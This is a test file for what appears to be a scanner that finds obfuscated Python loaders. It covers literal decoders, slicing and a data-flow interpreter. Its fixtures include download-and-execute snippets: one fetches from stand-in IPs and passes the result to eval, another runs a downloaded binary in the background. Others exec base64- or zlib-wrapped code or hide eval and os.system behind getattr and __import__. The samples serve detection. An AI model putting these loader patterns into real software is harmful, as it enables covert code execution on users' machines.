/** The pieces under the loader analyzer: literals and decoders, anchors, slicing, and the interpreter's facts. */
import { a85decode, b32decode, b64decode, b85decode, hexdecode, looksLikeLocation, parseLiteral, rot13, unescape, zlibDecompress, UNK } from '../../src/python/literals.js';
import { hasAnchors, worthAnalysing } from '../../src/python/anchors.js';
import { slicePython } from '../../src/python/slice.js';
import { analyzePython } from '../../src/python/interp.js';
import { L } from '../../src/python/values.js';
import { moduleMatches, matchMembers } from '../../src/analyzers/loader.js';
import { b64, bytes, utf8, zlibbed } from '../helpers/payloads.js';

const latin1 = (d: Uint8Array): string => Buffer.from(d).toString('latin1');

describe('Python literals', () => {
  test('escapes, prefixes and quotes are read as Python reads them', () => {
    expect(parseLiteral(String.raw`'a\x41\101\n\'b'`)).toEqual({ value: "aAA\n'b", bytes: false, raw: false });
    expect(parseLiteral(String.raw`b"\xff\u0041"`)).toEqual({ value: '\xff\\u0041', bytes: true, raw: false });
    expect(parseLiteral(String.raw`r'\d+\n'`)?.value).toBe(String.raw`\d+\n`);
    expect(parseLiteral(`'''x\ny'''`)?.value).toBe('x\ny');
    expect(parseLiteral(String.raw`u'\u00e9\U0001F600'`)?.value).toBe('é😀');
    expect(parseLiteral(String.raw`'\N{BULLET}'`)?.value).toBe(UNK);
    expect(unescape('a\\\nb\\q', false)).toBe('ab\\q');
    expect(parseLiteral('not a literal')).toBeNull();
  });

  test('decoders follow Python: lenient base64, fromhex spaces, base32/85, Ascii85, rot13, zlib', () => {
    expect(b64decode('aGVs\nbG8=')).toBe('hello');
    expect(b64decode('aGVsbG8=!!junk')).toBe('hello');
    expect(b64decode('a')).toBeUndefined();
    expect(b64decode('aGk_', undefined, true)).toBe(latin1(new Uint8Array(Buffer.from('aGk/', 'base64'))));
    expect(hexdecode('41 42\n43', true)).toBe('ABC');
    expect(hexdecode('41 42', false)).toBeUndefined();
    expect(b32decode('NBSWY3DP')).toBe('hello');
    expect(b85decode('Xk~0{Zy')).toBe('hello');
    expect(a85decode('<~BOu!rDZ~>')).toBe('hello');
    expect(rot13('uryyb')).toBe('hello');
    expect(zlibDecompress(latin1(zlibbed(utf8('x = 1'))))).toBe('x = 1');
    expect(zlibDecompress('not zlib')).toBeUndefined();
  });

  test('a location is a URL or a public IP, nothing else', () => {
    expect(looksLikeLocation(' http://203.0.113.5:8080/x.wav ')).toBe('http://203.0.113.5:8080/x.wav');
    expect(looksLikeLocation('198.51.100.7:4444')).toBe('198.51.100.7:4444');
    expect(looksLikeLocation('127.0.0.1')).toBeNull();
    expect(looksLikeLocation('1.2.3.4.5')).toBeNull();
    expect(looksLikeLocation('hello world')).toBeNull();
  });
});

describe('anchors', () => {
  test('a sink needs something that feeds it; computed names count alone', () => {
    expect(worthAnalysing('import subprocess\nsubprocess.run(["ls"])\n')).toBe(false);
    expect(worthAnalysing('import subprocess, requests\nsubprocess.run(["ls"])\n')).toBe(true);
    expect(worthAnalysing('exec(base64.b64decode(x))')).toBe(true);
    expect(worthAnalysing("getattr(__builtins__, 'ex' + 'ec')")).toBe(true);
    expect(worthAnalysing("m = __import__(name)")).toBe(true);
    expect(worthAnalysing("m = __import__('os')\nmodel.eval()\nre.compile('x')\n")).toBe(false);
    expect(worthAnalysing('x = 1\n' + 'y = 2\n'.repeat(10000) + 'exec(zlib.decompress(d))')).toBe(true);
    expect(hasAnchors('def f():\n    return compile(src, "f", "exec")\n')).toBe(true);
    expect(hasAnchors('"""This docstring mentions the system and commands."""\n')).toBe(false);
  });
});

describe('slicing', () => {
  test('keeps imports, module-level code, anchored code and what it names; offsets map back', () => {
    const filler = (i: number): string => `def unrelated_${i}(a, b):\n    """Nothing to see."""\n    return [a + b for _ in range(${i})]\n\n`;
    const src =
      'import base64\nimport subprocess\n\n' +
      Array.from({ length: 200 }, (_, i) => filler(i)).join('') +
      'def _decode(s):\n    return base64.b64decode(s)\n\n' +
      'class Runner:\n    def __init__(self):\n        self.cmd = _decode("aWQ=")\n\n    def other(self):\n        return 1\n\n    def run(self):\n        subprocess.run(self.cmd)\n\n' +
      'class Unused:\n    def x(self):\n        return 2\n\n' +
      'Runner().run()\n';
    const sl = slicePython(src, hasAnchors)!;
    expect(sl).not.toBeNull();
    expect(sl.kept).toBeLessThan(src.length / 5);
    expect(sl.text).toContain('def _decode(s)');
    expect(sl.text).toContain('def run(self)');
    expect(sl.text).toContain('def __init__(self)');
    expect(sl.text).not.toContain('unrelated_5');
    expect(sl.text).not.toContain('class Unused');
    const at = sl.text.indexOf('subprocess.run(self.cmd)');
    expect(sl.map(at)).toBe(src.indexOf('subprocess.run(self.cmd)'));
    expect(slicePython('x = 1\n', hasAnchors)).toBeNull();
  });

  test('flows found in a sliced file keep their original line numbers', () => {
    const pad = Array.from({ length: 1200 }, (_, i) => `def f${i}():\n    return ${i}\n`).join('');
    const src = `import base64\n${pad}exec(base64.b64decode('${b64(utf8('print(1)'))}'))\n`;
    const facts = analyzePython(src);
    expect(facts.stats.chars).toBeLessThan(src.length / 4);
    expect(facts.flows[0]).toMatchObject({ sink: 'exec', line: src.split('\n').length - 1 });
    expect(facts.flows[0].offset).toBe(src.indexOf('exec('));
  });
});

describe('the interpreter', () => {
  test('values follow aliases, helpers, lambdas, classes and containers', () => {
    const src = [
      'import base64 as b, zlib',
      'from urllib.request import urlopen as get',
      'D = lambda s: zlib.decompress(b.b64decode(s))',
      'def fetch(u):',
      '    return get(u).read()',
      'class Box:',
      '    def __init__(self, data):',
      '        self.data = data',
      'parts = []',
      'parts.append(fetch("http://198.51.100.2/p"))',
      'box = Box(D(b"".join(parts)))',
      'run = eval',
      'run(box.data)',
    ].join('\n');
    const f = analyzePython(src).flows;
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ sink: 'exec', call: 'eval', line: 13, ctx: 'module' });
    expect(f[0].t & L.NET && f[0].t & L.DECODE && f[0].t & L.DECOMP).toBeTruthy();
    expect(f[0].urls).toEqual(['http://198.51.100.2/p']);
  });

  test('decoded literals are folded and executed code is analysed as a further layer', () => {
    const inner = "import os\nos.system('id')\nexec(bytes.fromhex('7072696e74283129'))\n";
    const facts = analyzePython(`import codecs\nexec(codecs.decode(${JSON.stringify(b64(utf8(inner)))}.encode(), 'base64'))\n`);
    expect(facts.flows.map((x) => [x.sink, x.layer, x.line])).toEqual([
      ['exec', 1, 2],
      ['exec', 0, 2],
    ]);
    expect(facts.flows[1].preview).toContain("os.system('id')");
    // the inner exec of a hex literal is one more layer
    expect(facts.stats.layers).toBe(2);
  });

  test('a file written with downloaded bytes and then run is followed through its path', () => {
    const src = [
      'import os, stat, tempfile, urllib.request',
      'p = os.path.join(tempfile.gettempdir(), "upd.bin")',
      'urllib.request.urlretrieve("http://198.51.100.3/u", p)',
      'os.chmod(p, 0o755)',
      'os.system(p + " --quiet &")',
    ].join('\n');
    const f = analyzePython(src).flows;
    expect(f.map((x) => x.sink).sort()).toEqual(['chmod', 'run-file']);
    expect(f.find((x) => x.sink === 'run-file')).toMatchObject({ line: 5, hidden: true });
  });

  test('computed names resolve through getattr, globals() and __import__', () => {
    const facts = analyzePython("import builtins\ng = globals()\nf = g['__builtins__']\nx = getattr(builtins, 'e' 'val')\nm = __import__('o' + 's')\nn = vars(m)['sys' + 'tem']\n");
    expect(facts.obfuscated.map((o) => o.name).sort()).toEqual(['builtins.eval', 'import os', 'os.system']);
  });

  test('setup.py module level counts as install; __main__ blocks elsewhere do not run at import', () => {
    const src = "import urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('http://x.example/a')\n";
    expect(analyzePython(src, undefined, false).network[0].ctx).toBe('main');
    expect(analyzePython(src, undefined, true).network[0].ctx).toBe('module');
  });

  test('never throws: broken syntax, binary, deep nesting', () => {
    for (const s of ['def (:\n', latin1(bytes('\x00\xff\xfe' + 'exec('.repeat(10) + '\x00')), '('.repeat(5000) + 'exec(x)', 'class A(:\n  def f(self, *):\n    exec(self.x)\n']) {
      expect(() => analyzePython(s)).not.toThrow();
    }
  });
});

describe('relating files', () => {
  test('module names and member paths', () => {
    expect(moduleMatches('pkg/sub/mod.py', 'pkg.sub.mod')).toBe(true);
    expect(moduleMatches('proj-1.0/src/pkg/__init__.py', 'pkg')).toBe(true);
    expect(moduleMatches('pkg/modx.py', 'mod')).toBe(false);
    expect(matchMembers('*/assets/ring.wav', ['pkg/assets/ring.wav', 'pkg/ring.wav', 'other/assets/ring.wavx'])).toEqual(['pkg/assets/ring.wav']);
    expect(matchMembers('ring.wav', ['pkg/assets/ring.wav'])).toEqual(['pkg/assets/ring.wav']);
    expect(matchMembers('*/*', ['a/b'])).toEqual([]);
  });
});
